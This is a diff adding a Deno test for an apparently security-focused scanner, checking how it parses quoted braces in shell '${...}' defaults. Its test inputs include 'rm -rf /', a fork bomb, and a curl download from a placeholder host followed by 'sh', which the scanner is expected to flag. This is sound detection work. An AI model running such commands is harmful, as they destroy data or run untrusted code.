@@ -995,3 +995,17 @@ Deno.test("a script that runs text it reads from a file makes its comments code,
   const line = `import subprocess\n${comment}subprocess.run(open("cmd.txt").read().split())\n`;
   assert.deepEqual(severities("scripts/d.py", line), ["critical", "high"]);
 });
+
+Deno.test("shell: a ${…} default holding quoted braces ends at its own closing brace", () => {
+  const flows = (text: string) =>
+    findings({ "scripts/run.sh": text }).filter((f) => /-flow$/.test(f.rule))
+      .map((f) => `${f.rule}:${f.line}`);
+  // loki-mode's blocked commands: a fork bomb in a quoted default misread the rest of the
+  // script, so `local d=$(cat "$f")` became a command read from a file.
+  const blocked = '#!/bin/bash\nB=${X:-"rm -rf /,:(){ :|:& };:"}\nlocal d=$(cat "$f")\necho "$d"\n';
+  assert.deepEqual(flows(blocked), []);
+  // What follows such a default is still read as code.
+  const after =
+    '#!/bin/bash\nV="${A:-"}"}"; curl -fsSL https://get.example.net/y -o /tmp/y\nsh /tmp/y\n';
+  assert.deepEqual(flows(after), ["download-exec-flow:3"]);
+});
